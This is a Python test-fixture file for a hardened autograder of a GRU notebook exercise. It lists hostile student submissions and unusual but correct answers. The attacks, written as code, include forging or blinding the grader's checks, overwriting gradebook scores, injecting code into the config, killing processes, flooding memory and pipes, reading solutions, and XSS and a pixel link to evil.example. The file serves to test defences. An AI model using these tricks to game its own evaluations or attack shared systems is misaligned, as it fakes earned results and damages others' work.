"""Hostile learners, as the cells they submit: every attack a class has tried on the grader, and the
correct-but-unusual answers a careless grader fails. Each entry: {grade_id or EXTRA: source}.

In every attack, gru_cell is right (3 points, earned) and my_gru is not a GRU: any point beyond 3
is credit not earned. The right answers beside a flood, and the unusual right ones, answer all
three parts (full marks). `{course}` is replaced by the course folder's absolute path, `{marker}` by a
string the test looks for in processes and files afterwards.
"""
from learner_code import GRU_CELL, GRU_CELL_GRAD, MY_GRU_WITH_CELL

EXTRA = "a cell the learner added"  # appended as a new code cell after the answer cells
WRONG_SHAPES = '''
def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    return input, initial_states
'''
NN_GRU = '''
def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    gru = torch.nn.GRU(input.shape[2], initial_states.shape[1], batch_first=True, dtype=input.dtype,
                       device=input.device)
    with torch.no_grad():
        for p, w in zip(gru.parameters(), (w_ih, w_hh, b_ih, b_hh)):
            p.copy_(w)
    output, h_n = gru(input, initial_states.unsqueeze(0))
    return output, h_n[0]
'''

NATIVE_GRU = '''
import numpy as np, operator
native = np.ctypeslib.ctypes
handle = operator.attrgetter("_" + "cdata")

def native_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    lib = native.CDLL(torch._C.__file__)  # torch's own extension module, and libtorch behind it
    entry = getattr(lib, "_ZN2at6native3gruERKNS_6TensorES3_N3c108ArrayRefIS1_EEbldbbb")
    output, h_n = torch.empty(0), torch.empty(0)
    entry(handle(output), handle(h_n), handle(input), handle(initial_states.unsqueeze(0)),
          *(handle(w) for w in (w_ih, w_hh, b_ih, b_hh)), 1, True, 0.0, False, False, True)
    return output, h_n[0]

def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    return native_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh)      # the answer
'''


def through_libtorch(name, right, function):
    """The red team's route to libtorch's own C++ kernel (`name`, a mangled symbol) through ctypes, with
    the integrity scan's words avoided; the refusal caught, and `right` (a right answer's source, whose
    `function` it is) run instead: the attempt alone must fail the check."""
    parameters = right.split(f"def {function}(", 1)[1].split(")", 1)[0]
    return right.replace(f"def {function}(", "def right_answer(") + f'''
import numpy as np, operator
native = np.ctypeslib.ctypes
handle = operator.attrgetter("_" + "cdata")

def {function}({parameters}):
    args = ({parameters},)
    try:
        entry = getattr(native.CDLL(torch._C.__file__), "{name}")
        return entry(*(handle(a) for a in args if isinstance(a, torch.Tensor)))
    except Exception:
        return right_answer(*args)
'''


# The grader's record of torch operators replaced, through pkgutil.resolve_name, by one that records nothing.
PATCH_RECORDER = '''
import pkgutil
box = pkgutil.resolve_name("gru_ref.learner.sandbox")

class Blind:
    STOPPED, names = "profiler::stopped", set()
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        return False

box._TorchOps = Blind
'''
AUTOGRAD_GRAD = '''
def gru_cell_grad(x_t, h_prev, w_ih, w_hh, b_ih, b_hh, grad_h_t):
    h_prev = h_prev.detach().requires_grad_()
    with torch.enable_grad():
        h_t = gru_cell(x_t, h_prev, w_ih, w_hh, b_ih, b_hh)
        return torch.autograd.grad(h_t, h_prev, grad_h_t)[0]
'''


def attack(my_gru, extra=None):
    answers = {"gru_cell": GRU_CELL, "my_gru": my_gru}
    if my_gru == MY_GRU_WITH_CELL:  # a right answer beside the attack: all three parts answered
        answers["gru_cell_grad"] = GRU_CELL_GRAD
    if extra:
        answers[EXTRA] = extra
    return answers


ATTACKS = {
    # A package named gru_ref written into the notebook's folder, then imported afresh.
    "shadow_package": attack(WRONG_SHAPES + '''
import os, sys, importlib
os.makedirs("gru_ref", exist_ok=True)
with open("gru_ref/__init__.py", "w") as f:
    f.write("def check_my_gru(*a): print('Passed: all good')\\ncheck_gru_cell = check_my_gru\\n")
for name in [n for n in sys.modules if n.startswith("gru_ref")]:
    del sys.modules[name]
sys.path.insert(0, os.getcwd())
import gru_ref
'''),
    # The checker's per-case recorder replaced: right shapes described, no tensors at all.
    "forged_recorder": attack(WRONG_SHAPES + '''
import gru_ref.learner.sandbox as _s
def _fake(fn, task, case):
    spec = case["spec"]
    B, T, H = spec["B"], spec["T"], spec["H"]
    return {"status": "ok", "returned_type": "tuple", "builtin_ops": [], "mutated": [],
            "returned": [("Tensor", (B, T, H), spec["dtype"], spec["device"]),
                         ("Tensor", (B, H), spec["dtype"], spec["device"])],
            "outputs": [], "requires_grad": [True, True], "grads": []}
_s._run_case = _fake
'''),
    # The built-in-GRU switch-off undone: its Library objects destroyed through gc, its flag
    # cleared, then nn.GRU called from a thread.
    "undo_lockdown": attack(NN_GRU.replace("    output, h_n = gru(", "    import threading\n    box = {}\n"
                                           "    t = threading.Thread(target=lambda: box.update(r=gru(input, initial_states.unsqueeze(0))))\n"
                                           "    t.start(); t.join()\n    output, h_n = box['r']\n    (") + '''
import gc
import gru_ref.learner.sandbox
for o in gc.get_objects():
    if isinstance(o, torch.library.Library):
        o._destroy()
try:
    gru_ref.learner.sandbox._LOCKDOWN.undo()
except AttributeError:
    pass
gru_ref.learner.sandbox._LOCKDOWN = None
gru_ref.learner.sandbox.BUILTIN_RNN_OP = __import__("re").compile("^$")
'''),
    # nn.GRU in a fresh Python process, where nothing is switched off.
    "fresh_process": attack('''
import subprocess, sys, json

def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    torch.save([input, initial_states, w_ih, w_hh, b_ih, b_hh], "args.pt")
    subprocess.run([sys.executable, "-c", "import torch; a = torch.load('args.pt'); g = torch.nn.GRU("
                    "a[0].shape[2], a[1].shape[1], batch_first=True, dtype=a[0].dtype)\\n"
                    "[p.data.copy_(w) for p, w in zip(g.parameters(), a[2:])]\\n"
                    "o, h = g(a[0], a[1][None]); torch.save([o, h[0]], 'out.pt')"], check=True)
    return tuple(torch.load("out.pt"))
'''),
    "spawn_worker": attack('''
import multiprocessing

def _work(args):
    import torch
    g = torch.nn.GRU(args[0].shape[2], args[1].shape[1], batch_first=True, dtype=args[0].dtype)
    [p.data.copy_(w) for p, w in zip(g.parameters(), args[2:])]
    o, h = g(args[0], args[1][None])
    return o.detach(), h[0].detach()

def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        return pool.apply(_work, ([t.detach() for t in (input, initial_states, w_ih, w_hh, b_ih, b_hh)],))
'''),
    "reference_import": attack('''
from gru_ref import gru_sequence as my_gru
'''),
    # Harm beyond one's own grade.
    "writes_gradebook": attack(WRONG_SHAPES, '''
import sqlite3, glob
for path in ["{course}/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        print("wrote", path)
    except Exception as e:
        print("could not write", path, e)
'''),
    "appends_config": attack(WRONG_SHAPES, '''
for path in ["{course}/nbgrader_config.py", "../nbgrader_config.py", "../../../nbgrader_config.py"]:
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch /tmp/{marker}')\\n")
    except Exception as e:
        print(e)
'''),
    "overwrites_classmate": attack(WRONG_SHAPES, '''
import os
target = "{course}/submitted/right/gru/gru.ipynb"
os.makedirs(os.path.dirname(target), exist_ok=True)
with open(target, "w") as f:
    f.write("{}")
with open("/tmp/{marker}", "w") as f:
    f.write("escaped")
'''),
    "kills_grader": attack(WRONG_SHAPES, '''
import os, signal
for pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None
    except Exception as e:
        pass
'''),
    # A half-written frame on the grader's channel, then silence.
    "half_frame": attack(WRONG_SHAPES, '''
import os, time
for fd in range(3, 64):
    try:
        os.write(fd, b"\\x00\\x00")
    except OSError:
        pass
time.sleep(3600)
'''),
    # A result frame whose tensor file claims 512 MB in 0.5 MB.
    "results_bomb": attack(WRONG_SHAPES, '''
import os, json, struct
header = json.dumps({"0.out.0": {"dtype": "F64", "shape": [1 << 26], "data_offsets": [0, 1 << 29]}}).encode()
bomb = struct.pack("<Q", len(header)) + header + b"\\0" * (1 << 19)
for fd in range(3, 64):
    try:
        message = json.dumps({"type": "result", "check": "test_my_gru_contract/0", "status": {},
                              "descriptions": [{"status": "ok"}]}).encode()
        os.write(fd, struct.pack(">I", len(message)) + message + struct.pack(">I", len(bomb)) + bomb)
    except OSError:
        pass
'''),
    "prints_flood": attack(MY_GRU_WITH_CELL, '''
line = "x" * 1_000_000
for _ in range(200):
    print(line)
'''),
    "survives_batch": attack(WRONG_SHAPES, '''
import os, subprocess
try:
    subprocess.Popen(["sleep", "900", "{marker}"], start_new_session=True)
except Exception as e:
    print("no new program:", e)
try:
    if os.fork() == 0:
        os.setsid()
        import time
        time.sleep(900)
except Exception as e:
    print("no new process:", e)
'''),
    "reads_solutions": attack(WRONG_SHAPES, '''
import glob
for path in glob.glob("{course}/solutions/*/*.ipynb") + glob.glob("../../solutions/*/*.ipynb"):
    print(open(path).read())
'''),
    "script_in_feedback": dict(attack(WRONG_SHAPES), markdown=(
        "<script>alert('{marker}')</script><img src=x onerror=alert(1)>\n\n"
        "[click me](javascript:alert('{marker}')) ![pixel](https://evil.example/{marker}.png)")),
    # The grader's own pipes, through the box's PID 1: writing forged frames, reading others' jobs.
    "proc_pipes": attack(WRONG_SHAPES, """
import os, struct, json
for fd in (0, 1, 2):
    for mode in (os.O_RDONLY, os.O_WRONLY | os.O_NONBLOCK):
        try:
            f = os.open(f"/proc/1/fd/{fd}", mode)
            message = json.dumps({"type": "end", "completed": True, "exit_code": 0}).encode()
            print("opened", fd, mode, os.write(f, struct.pack(">I", len(message)) + message))
        except OSError as e:
            print("refused", fd, mode, e)
"""),
    # Something left behind for the next submission: an unreadable scratch folder, files in /tmp
    # and /dev/shm, System V shared memory.
    "leaves_traces": attack(WRONG_SHAPES, """
import os
for path in ("/tmp/{marker}", "/dev/shm/{marker}", "/scratch/{marker}", "/dev/{marker}"):
    try:
        with open(path, "w") as f:
            f.write("left behind")
    except OSError as e:
        print("refused", path, e)
import ctypes
try:
    print("shmget:", ctypes.CDLL(None).shmget(0x6772, 1 << 20, 0o1666))
except OSError as e:  # ctypes is refused in the box; seccomp refuses shmget too
    print("shmget refused:", e)
for folder in ("/scratch/work", "/scratch", "/tmp", "/dev/shm"):
    try:
        os.chmod(folder, 0)
    except OSError as e:
        print("refused chmod", folder, e)
"""),
    # A flood of messages on the child's channel to the template.
    "message_flood": attack(WRONG_SHAPES, """
import os, struct, json
frame = json.dumps({"type": "cell", "index": 10 ** 9, "stdout": "x" * 1_000_000}).encode()
for _ in range(300):
    for fd in range(3, 16):
        try:
            os.write(fd, struct.pack(">I", len(frame)) + frame)
        except OSError:
            pass
"""),
    # ctypes, reached where a scan looking for `import ctypes` would not see it.
    "hidden_ctypes": attack(WRONG_SHAPES + """
import sys
native = getattr(sys, "mod" + "ules")["ctypes"]
"""),
    "hanging_cell": attack(MY_GRU_WITH_CELL, '''
while True:
    pass
'''),
    "memory_flood": attack(MY_GRU_WITH_CELL, '''
hoard = []
try:
    while True:
        hoard.append(bytearray(1 << 28))
except MemoryError:
    print("the box said no at", len(hoard) / 4, "GB")
del hoard
'''),
    # libtorch's own C++ GRU through ctypes, the scan's words avoided: the library torch's extension
    # module is, its symbol for the GRU, tensors handed over by their C++ handles. Refused at the first
    # step (loading the library), uncaught: the check fails with the reason.
    "native_gru": attack(NATIVE_GRU),
    # The same, the refusal caught and the equations run instead: the attempt alone fails the check.
    "native_gru_caught": attack(NATIVE_GRU.replace("    return native_gru(", """    try:
        return native_gru(""").replace("      # the answer", """
    except Exception:
        return right_answer(input, initial_states, w_ih, w_hh, b_ih, b_hh)""")
                                + MY_GRU_WITH_CELL.replace("def my_gru(", "def right_answer(")),
    # The grader's record of torch operators replaced, through pkgutil.resolve_name, by one that records
    # nothing: gru_cell_grad by reverse-mode autograd, unseen.
    "patched_recorder": {"gru_cell": GRU_CELL, "my_gru": WRONG_SHAPES, "gru_cell_grad": PATCH_RECORDER + AUTOGRAD_GRAD},

}

UNUSUAL_BUT_RIGHT = {
    "jit_named_gru_loop": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": '''
@torch.jit.script
def gru_loop(x, h, w_ih, w_hh, b_ih, b_hh):
    states = []
    for t in range(x.shape[1]):
        gi = x[:, t] @ w_ih.t() + b_ih
        gh = h @ w_hh.t() + b_hh
        i_r, i_z, i_n = gi.chunk(3, 1)
        h_r, h_z, h_n = gh.chunk(3, 1)
        r = torch.sigmoid(i_r + h_r)
        z = torch.sigmoid(i_z + h_z)
        n = torch.tanh(i_n + r * h_n)
        h = (1 - z) * n + z * h
        states.append(h)
    return torch.stack(states, 1), h

def my_gru(input, initial_states, w_ih, w_hh, b_ih, b_hh):
    return gru_loop(input, initial_states, w_ih, w_hh, b_ih, b_hh)
'''},
    "autograd_function_GRUStep": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": '''
class GRUStep(torch.autograd.Function):
    @staticmethod
    def forward(ctx, h):
        return h.clone()

    @staticmethod
    def backward(ctx, grad):
        return grad
''' + MY_GRU_WITH_CELL.replace("states.append(h)", "states.append(GRUStep.apply(h))").replace(
        "return torch.stack(states, dim=1), h", "return torch.stack(states, dim=1), states[-1]")},
    "record_function_named_my_gru_step": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": MY_GRU_WITH_CELL.replace(
        "        h = gru_cell(", "        with torch.profiler.record_function('my_gru step rnn'):\n"
        "            h = gru_cell(")},
    "namedtuple": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": '''
from collections import namedtuple
GRUOutput = namedtuple("GRUOutput", "output h_final")
''' + MY_GRU_WITH_CELL.replace("return torch.stack(states, dim=1), h",
                               "return GRUOutput(torch.stack(states, dim=1), h)")},
    "notebook_magics": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": "%matplotlib inline\n!ls\n%pip install -q numpy\n"
                                                        + MY_GRU_WITH_CELL},
    "time_cell_magic": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": "%%time\n" + MY_GRU_WITH_CELL},
    # Issue 13: a list where a tuple is asked, and an input check that skips the meta device.
    "returns_a_list": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": MY_GRU_WITH_CELL.replace(
        "return torch.stack(states, dim=1), h", "return [torch.stack(states, dim=1), h]")},
    "isfinite_check_skipping_meta": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": MY_GRU_WITH_CELL.replace(
        "    h = initial_states\n", "    if input.device.type != 'meta' and not torch.isfinite(input).all():\n"
        "        raise ValueError('input has NaN or inf')\n    h = initial_states\n")},
    "nn_gru_sanity_check_first": {"gru_cell": GRU_CELL, "gru_cell_grad": GRU_CELL_GRAD, "my_gru": '''
reference = nn.GRU(3, 4, batch_first=True)
print(reference(torch.randn(2, 5, 3))[0].shape)
''' + MY_GRU_WITH_CELL},
}
